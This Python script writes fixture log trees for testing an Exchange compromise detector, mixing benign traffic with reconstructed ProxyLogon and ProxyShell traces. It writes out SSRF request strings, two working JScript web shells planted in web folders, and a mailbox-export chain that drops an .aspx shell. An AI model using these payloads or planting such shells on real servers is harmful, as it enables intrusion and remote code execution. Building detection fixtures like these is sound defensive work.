# ruff: noqa: E501  (log lines and fixture rows are kept whole on purpose)
"""Write the committed fixture trees under fixtures/ (run by hand when formats change).

`fixtures/kape/` is a KAPE-style copy of a server hit by ProxyLogon (March 2021) and
ProxyShell (August 2021): attack lines shaped after the public write-ups (HelseCERT,
signature-base, Sigma, OTRF), benign traffic around them.  `fixtures/clean_flat/` is a flat
collector folder with benign logs only.  Addresses are documentation ranges except the
published attacker addresses.
"""

from __future__ import annotations

import shutil
import struct
from pathlib import Path

from hostcheck_logfmt import ECP_HEADER, HP_HEADER, IIS_HEADER, RPS_HEADER, ecp, hp, iis, rps  # type: ignore[import-not-found]

from exwatch.hostcheck import rps_cat

HERE = Path(__file__).parent / "fixtures"
EX = "C/Program Files/Microsoft/Exchange Server/V15"
CHROME = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/89.0.4389.82+Safari/537.36"
CAT = rps_cat.encode(
    "administrator@contoso.local",
    "S-1-5-21-1004336348-1177238915-682003330-500",
    ["S-1-5-32-544", "S-1-5-21-1004336348-1177238915-682003330-512"],
)
SSRF_BASE = "ServerInfo~a]@exch01.contoso.local:444/"


def write(rel: str, text: str | bytes) -> None:
    path = HERE / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8", newline="\r\n" if "W3SVC" in rel else "\n")


def benign_hp(ts: str, **kw: str) -> str:
    base = dict(
        DateTime=ts,
        Protocol="Owa",
        UrlStem="/owa/",
        AnchorMailbox="Sid~S-1-5-21-1004336348-1177238915-682003330-1104",
        UserAgent="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.82 Safari/537.36",
        ClientIpAddress="192.0.2.10",
        AuthenticatedUser="CONTOSO\\alice",
        IsAuthenticated="true",
        AuthenticationType="Forms",
        Method="GET",
        HttpStatus="200",
    )
    base.update(kw)
    return str(hp(**base))


def kape() -> None:
    root = "kape/"
    # HttpProxy Ecp: HelseCERT-shaped ProxyLogon sequence between benign lines.
    ecp_lines = [
        benign_hp("2021-03-03T02:58:01.001Z", Protocol="Ecp", UrlStem="/ecp/default.aspx"),
        hp(
            DateTime="2021-03-03T03:01:11.200Z",
            Protocol="Ecp",
            UrlStem="/ecp/y.js",
            AnchorMailbox=SSRF_BASE + "autodiscover/autodiscover.xml?#",
            RoutingHint="X-BEResource-Cookie",
            UserAgent="ExchangeServicesClient/0.0.0.0",
            ClientIpAddress="130.255.189.21",
            HttpStatus="200",
        ),
        hp(
            DateTime="2021-03-03T03:01:14.500Z",
            Protocol="Ecp",
            UrlStem="/ecp/y.js",
            AnchorMailbox=SSRF_BASE + "mapi/emsmdb/?#",
            RoutingHint="X-BEResource-Cookie",
            UserAgent="python-requests/2.25.1",
            ClientIpAddress="130.255.189.21",
            HttpStatus="200",
        ),
        hp(
            DateTime="2021-03-03T03:01:16.700Z",
            Protocol="Ecp",
            UrlStem="/ecp/y.js",
            AnchorMailbox=SSRF_BASE + "ecp/proxyLogon.ecp?#",
            RoutingHint="X-BEResource-Cookie",
            UserAgent="python-requests/2.25.1",
            ClientIpAddress="130.255.189.21",
            HttpStatus="241",
        ),
        hp(
            DateTime="2021-03-03T03:01:20.100Z",
            Protocol="Ecp",
            UrlStem="/ecp/y.js",
            AnchorMailbox=SSRF_BASE
            + "ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=q1w2&schema=OABVirtualDirectory#",
            RoutingHint="X-BEResource-Cookie",
            UserAgent="python-requests/2.25.1",
            ClientIpAddress="130.255.189.21",
            HttpStatus="200",
        ),
        hp(
            DateTime="2021-03-03T03:01:25.900Z",
            Protocol="Ecp",
            UrlStem="/ecp/y.js",
            AnchorMailbox=SSRF_BASE
            + "ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=q1w2&schema=ResetOABVirtualDirectory#",
            RoutingHint="X-BEResource-Cookie",
            UserAgent="python-requests/2.25.1",
            ClientIpAddress="130.255.189.21",
            HttpStatus="200",
        ),
        hp(
            DateTime="2021-03-03T03:01:30.000Z",
            Protocol="Ecp",
            UrlStem="/ecp/y.js",
            AnchorMailbox="serverinfo~LOCALHOST:444/ecp/about.aspx?#",
            UserAgent="python-requests/2.25.1",
            ClientIpAddress="130.255.189.21",
            HttpStatus="200",
        ),
        benign_hp(
            "2021-03-03T03:30:00.000Z",
            Protocol="Ecp",
            UrlStem="/ecp/RulesEditor/InboxRules.svc/GetList",
        ),
    ]
    write(
        root + EX + "/Logging/HttpProxy/Ecp/HttpProxy_2021030303-1.LOG",
        HP_HEADER.format(date="2021-03-03T03:00:00.000Z") + "\n".join(ecp_lines) + "\n",
    )
    # Owa folder: the same reset row outside Ecp must not count for 27065 (a); a repeated
    # header block; a truncated last line.
    owa = [
        benign_hp("2021-03-04T10:00:00.000Z"),
        hp(
            DateTime="2021-03-04T10:05:00.000Z",
            Protocol="Owa",
            UrlStem="/owa/auth/x.js",
            AnchorMailbox=SSRF_BASE
            + "ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#",
            UserAgent="python-requests/2.25.1",
            ClientIpAddress="5.254.43.18",
            HttpStatus="200",
            Method="POST",
        ),
    ]
    trunc = benign_hp("2021-03-04T10:20:00.000Z")[:120]
    write(
        root + EX + "/Logging/HttpProxy/Owa/HttpProxy_2021030410-1.LOG",
        HP_HEADER.format(date="2021-03-04T10:00:00.000Z")
        + owa[0]
        + "\n"
        + HP_HEADER.format(date="2021-03-04T10:04:00.000Z")
        + owa[1]
        + "\n"
        + trunc
        + "\n",
    )
    # Autodiscover + PowerShell: ProxyShell (August 2021).
    ps_query = (
        "?@evil.corp/powershell/?X-Rps-CAT="
        + CAT
        + "&Email=autodiscover/autodiscover.json%3F@evil.corp"
    )
    auto = [
        benign_hp(
            "2021-08-13T10:00:00.000Z",
            Protocol="Autodiscover",
            UrlStem="/autodiscover/autodiscover.xml",
            Method="POST",
        ),
        hp(
            DateTime="2021-08-13T10:21:00.100Z",
            Protocol="Autodiscover",
            Method="POST",
            UrlStem="/autodiscover/autodiscover.json",
            UrlQuery="?@evil.corp/autodiscover/autodiscover.xml?=&Email=autodiscover/autodiscover.json%3F@evil.corp",
            UserAgent="python-requests/2.26.0",
            ClientIpAddress="203.0.113.66",
            HttpStatus="200",
            AnchorMailbox="",
        ),
        hp(
            DateTime="2021-08-13T10:21:02.100Z",
            Protocol="Autodiscover",
            Method="POST",
            UrlStem="/autodiscover/autodiscover.json",
            UrlQuery="?@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp",
            UserAgent="python-requests/2.26.0",
            ClientIpAddress="203.0.113.66",
            HttpStatus="200",
            AnchorMailbox="",
        ),
    ]
    write(
        root + EX + "/Logging/HttpProxy/Autodiscover/HttpProxy_2021081310-1.LOG",
        HP_HEADER.format(date="2021-08-13T10:00:00.000Z") + "\n".join(auto) + "\n",
    )
    write(
        root + EX + "/Logging/HttpProxy/PowerShell/HttpProxy_2021081310-1.LOG",
        HP_HEADER.format(date="2021-08-13T10:00:00.000Z")
        + hp(
            DateTime="2021-08-13T10:21:40.000Z",
            Protocol="PowerShell",
            Method="POST",
            UrlStem="/autodiscover/autodiscover.json",
            UrlQuery=ps_query,
            UserAgent="Microsoft WinRM Client",
            ClientIpAddress="203.0.113.66",
            HttpStatus="200",
            AnchorMailbox="",
        )
        + "\n",
    )
    # ECP Server log (HelseCERT-shaped, CSV-quoted payload), twice: first hit per file only.
    set_cmd = 'S:TIME=312;S:SID=3f2b1c0e;S:CMD=Set-OabVirtualDirectory.ExternalUrl=\'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>\'.Identity=\'3e1a8b8c-6f3d-4b8e-9c1a-1d2f3e4a5b6c\';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=q1w2;S:REFERRER=;S:EX=;S:RS=0;S:BLD=15.1.2176.2'
    ecp_srv = [
        ecp(
            "S:TIME=13;S:SID=1b2c;S:CMD=Get-InboxRule;S:REQID=;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=x;S:RS=0;S:BLD=15.1.2176.2",
            ts="2021-03-03T02:59:00.000Z",
        ),
        ecp(set_cmd, ts="2021-03-03T03:01:24.000Z"),
        ecp(set_cmd, ts="2021-03-03T03:01:24.500Z"),
        ecp(
            "S:TIME=200;S:CMD=Remove-OABVirtualDirectory.Identity='3e1a8b8c';S:RS=0",
            ts="2021-03-03T03:01:26.000Z",
        ),
    ]
    write(
        root + EX + "/Logging/ECP/Server/ECPServer20210303-1.LOG",
        ECP_HEADER.format(date="2021-03-03T00:00:00.000Z") + "\n".join(ecp_srv) + "\n",
    )
    # OABGenerator: a normal cleanup line and the 26858 write to aspnet_client.
    oab = [
        "2021-03-03T03:40:01.000Z,EXCH01,OABGenerator,Begin generating OAB 'Default Offline Address Book'",
        "2021-03-03T03:40:02.000Z,EXCH01,OABGenerator,Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\e2a8c5f1\\oab.xml' needs to be removed",
        "2021-03-03T03:41:00.000Z,EXCH01,OABGenerator,Download failed and temporary file '\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\shell.aspx' needs to be removed",
    ]
    write(root + EX + "/Logging/OABGeneratorLog/OABGenerator_20210303-1.log", "\n".join(oab) + "\n")
    # Rps_Cmdlet: ProxyShell mailbox export chain.
    cmds = [
        rps(
            DateTime="2021-08-13T09:00:00.000Z",
            Cmdlet="Get-Mailbox",
            Parameters='-ResultSize "1"',
            ClientApplication="ActiveMonitor",
        ),
        rps(
            DateTime="2021-08-13T10:21:44.310Z",
            Cmdlet="New-ManagementRoleAssignment",
            Parameters='-Role "Mailbox Import Export" -User "administrator@contoso.local"',
        ),
        rps(
            DateTime="2021-08-13T10:21:50.000Z",
            Cmdlet="New-MailboxExportRequest",
            Parameters='-Mailbox "administrator@contoso.local" -IncludeFolders "#Drafts#" -FilePath "\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\p433zrwewrvmcv.aspx"',
        ),
        rps(
            DateTime="2021-08-13T10:22:30.000Z",
            Cmdlet="Remove-MailboxExportRequest",
            Parameters='-Identity "administrator\\MailboxExport" -Confirm "False"',
        ),
    ]
    write(
        root + EX + "/Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2021081310-1.LOG",
        RPS_HEADER.format(date="2021-08-13T09:00:00.000Z") + "\n".join(cmds) + "\n",
    )
    # IIS front end: benign, RedirSuiteServerProxy.aspx shell use (HelseCERT), a probe, ProxyShell.
    iis1 = [
        iis(
            date="2021-03-05",
            time="03:00:01",
            method="GET",
            stem="/owa/auth/logon.aspx",
            query="url=https%3a%2f%2fmail.contoso.example%2fowa%2f&reason=0&CorrelationID=<empty>;&cafeReqId=a1;",
            cip="192.0.2.10",
            status="200",
        ),
        iis(
            date="2021-03-05",
            time="03:06:27",
            method="POST",
            stem="/owa/auth/RedirSuiteServerProxy.aspx",
            query="&CorrelationID=<empty>;&cafeReqId=cde28fc4-3b6e-4a3a-9a2b-6f0f7c2b1a11;&encoding=;",
            cip="139.162.202.236",
            ua="Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/65.0.2345+Safari/537.36",
            status="200",
            taken="133",
        ),
        iis(
            date="2021-03-05",
            time="04:00:00",
            method="GET",
            stem="/owa/auth/OutlookEN.aspx",
            cip="198.51.100.77",
            ua="python-requests/2.22.0",
            status="404",
        ),
    ]
    iis2 = [
        iis(
            date="2021-08-13",
            time="10:21:00",
            method="POST",
            stem="/autodiscover/autodiscover.json",
            query="@evil.corp/autodiscover/autodiscover.xml?=&Email=autodiscover/autodiscover.json%3F@evil.corp&CorrelationID=<empty>;&cafeReqId=5e1d;",
            cip="203.0.113.66",
            ua="python-requests/2.26.0",
            status="200",
        ),
        iis(
            date="2021-08-13",
            time="10:21:40",
            method="POST",
            stem="/autodiscover/autodiscover.json",
            query="@evil.corp/powershell/?X-Rps-CAT="
            + CAT
            + "&Email=autodiscover/autodiscover.json%3F@evil.corp&CorrelationID=<empty>;&cafeReqId=9d1e;",
            cip="203.0.113.66",
            ua="python-requests/2.26.0",
            status="200",
        ),
        iis(
            date="2021-08-13",
            time="11:00:00",
            method="GET",
            stem="/autodiscover/autodiscover.json/v1.0/alice@contoso.example",
            query="Protocol=ActiveSync&RedirectCount=1&CorrelationID=<empty>;&cafeReqId=77aa;",
            cip="192.0.2.10",
            ua="Outlook-iOS/709.2189947.prod.iphone+(4.14.0)",
            status="200",
        ),
    ]
    write(
        root + "C/inetpub/logs/LogFiles/W3SVC1/u_ex210305.log",
        IIS_HEADER.format(date="2021-03-05 03:00:00")
        + "\n".join(iis1)
        + "\n"
        + IIS_HEADER.format(date="2021-08-13 10:00:00")
        + "\n".join(iis2)
        + "\n"
        + "2021-08-13 11:00:05 10.0.0.5 GET /owa/ &Correl\n",
    )
    # Web folders.
    write(
        root + "C/inetpub/wwwroot/aspnet_client/system_web/log.aspx",
        'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>\r\n',
    )
    write(root + "C/inetpub/wwwroot/iisstart.htm", "<html><body>IIS Windows Server</body></html>\n")
    write(
        root + EX + "/FrontEnd/HttpProxy/owa/auth/logon.aspx",
        '<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>\n',
    )
    write(
        root + EX + "/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx",
        '<%@ Page Language="Jscript"%><%var c=System.Convert.FromBase64String(Request.Item["z"]);eval(System.Text.Encoding.UTF8.GetString(c),"unsafe");%>\n',
    )
    write(
        root + EX + "/FrontEnd/HttpProxy/ecp/auth/TimeoutLogout.aspx", '<%@ Page Language="C#" %>\n'
    )
    write(root + "C/ProgramData/it.zip", b"PK\x05\x06" + b"\x00" * 18)
    write(root + "C/Windows/Temp/lsass.dmp", b"MDMP" + struct.pack("<I", 0xA793) + b"\x00" * 24)


def clean_flat() -> None:
    root = "clean_flat/"
    write(
        root + "EXCH01/Ecp_Proxy_Logs/HttpProxy_2023010611-1.LOG",
        HP_HEADER.format(date="2023-01-06T11:00:05.327Z")
        + benign_hp(
            "2023-01-06T11:47:32.435Z",
            Protocol="Ecp",
            UrlStem="/ecp/",
            AnchorMailbox="ServerVersion~Version 15.0 (Build 0.0)",
        )
        + "\n",
    )
    write(
        root + "EXCH01/u_ex230106.log",
        IIS_HEADER.format(date="2023-01-06 00:00:00")
        + iis(date="2023-01-06", time="11:47:32", stem="/owa/auth/logon.aspx", status="200")
        + "\n",
    )
    write(
        root + "EXCH01/ECPServer20230106-1.LOG",
        ECP_HEADER.format(date="2023-01-06T00:00:00.000Z")
        + ecp("S:TIME=13;S:CMD=Get-InboxRule;S:RS=0", ts="2023-01-06T00:02:33.966Z")
        + "\n",
    )


def tpl_output() -> None:
    """A Test-ProxyLogon 26855 CSV (Windows PowerShell 5.1 Export-Csv) as IR teams keep it."""
    cols = [
        "DateTime",
        "RequestId",
        "ClientIPAddress",
        "UrlHost",
        "UrlStem",
        "RoutingHint",
        "UserAgent",
        "AnchorMailbox",
        "HttpStatus",
    ]
    row = [
        "2021-03-03T03:01:20.100Z",
        "5e58f5e5-1ddc-48d3-82c6-0199bc121640",
        "130.255.189.21",
        "mail.contoso.example",
        "/ecp/y.js",
        "X-BEResource-Cookie",
        "python-requests/2.25.1",
        SSRF_BASE
        + "ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=q1w2&schema=OABVirtualDirectory#",
        "200",
    ]
    text = (
        "#TYPE Selected.System.Management.Automation.PSCustomObject\n"
        + ",".join(f'"{c}"' for c in cols)
        + "\n"
        + ",".join(f'"{v}"' for v in row)
        + "\n"
    )
    write("tpl_output/EXCH01-Cve-2021-26855.csv", text)


if __name__ == "__main__":
    for name in ("kape", "clean_flat", "tpl_output"):
        shutil.rmtree(HERE / name, ignore_errors=True)
    kape()
    clean_flat()
    tpl_output()
